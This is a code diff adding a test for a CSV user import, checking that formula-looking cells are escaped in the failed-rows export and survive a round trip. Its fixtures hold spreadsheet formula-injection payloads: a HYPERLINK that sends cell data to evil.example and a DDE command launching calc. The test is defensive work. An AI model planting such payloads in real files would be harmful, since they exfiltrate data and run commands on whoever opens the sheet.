@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
 import { startTestApp, type TestApp } from '../helpers/test-app.js';
 import { testDialects } from '../helpers/databases.js';
 import { importFile, JOB_FIELDS, upload, waitForJob } from '../helpers/imports.js';
@@ -126,6 +127,46 @@ describe.each(testDialects())('CSV import of users, on %s', (dialect) => {
       const errors = line.slice(line.indexOf(',"') + 2, -1).split('; ');
       expect(errors.map((e) => e.split(':')[0])).toEqual(['role', 'verified', 'suspended']);
     }
+  });
+
+  it("failed rows: a cell a spreadsheet would read as a formula goes back behind a '; fixed and imported again, the values are the file's", async () => {
+    expect((await app.as(app.admin)('mutation { createUserField(input: { key: "ref", title: "Ref", type: TEXT }) { id } }')).errors).toBeUndefined();
+    const file = [
+      'name,email,phone,notes,custom_fields.ref',
+      `"=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",not-an-address,+33612345678,+cmd|' /C calc'!A0,=1+2`,
+      // As an export writes them: '' before a value starting with '=, ' before -3.5 (a spreadsheet's habit; a number needs none).
+      `''=Already quoted,bad@,+1 415 555 2671,'-3.5,@SUM(A1)`,
+    ].join('\r\n');
+    const job = await importFile(app, file, { mode: 'CREATE' });
+    expect(job).toMatchObject({ status: 'DONE', created: 0, failed: 2 });
+    const res = await fetch(`${app.url}${job.failedRowsUrl}`, { headers: { cookie: app.admin.cookie } });
+    const failed: string[][] = parse(await res.text(), { bom: true });
+    expect(failed.map((r) => r.slice(0, 5))).toEqual([
+      ['name', 'email', 'phone', 'notes', 'custom_fields.ref'],
+      [`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`, 'not-an-address', '+33612345678', `'+cmd|' /C calc'!A0`, `'=1+2`],
+      ["''=Already quoted", 'bad@', '+1 415 555 2671', '-3.5', `'@SUM(A1)`],
+    ]);
+    for (const r of failed) expect(r[5]).toMatch(/^[A-Za-z]/);
+    // Fixed (the addresses; the errors column dropped), as a spreadsheet would save it, and imported again.
+    failed[1][1] = 'formula.one@imp.example.org';
+    failed[2][1] = 'formula.two@imp.example.org';
+    const fixed = failed
+      .map((r) =>
+        r
+          .slice(0, 5)
+          .map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c))
+          .join(','),
+      )
+      .join('\r\n');
+    expect(await importFile(app, fixed, { mode: 'CREATE' })).toMatchObject({ status: 'DONE', created: 2, failed: 0 });
+    const user = async (e: string) =>
+      (await app.gql('query($e: String!) { userByEmail(email: $e) { name phone notes fields { key value } } }', { e })).data.userByEmail;
+    const one = await user('formula.one@imp.example.org');
+    expect(one).toMatchObject({ name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', phone: '+33612345678', notes: "+cmd|' /C calc'!A0" });
+    expect(one.fields).toContainEqual({ key: 'ref', value: '=1+2' });
+    const two = await user('formula.two@imp.example.org');
+    expect(two).toMatchObject({ name: "'=Already quoted", phone: '+14155552671', notes: '-3.5' });
+    expect(two.fields).toContainEqual({ key: 'ref', value: '@SUM(A1)' });
   });
 
   it('modes: CREATE fails existing users, UPDATE fails unmatched rows, blank cells clear only when asked', async () => {
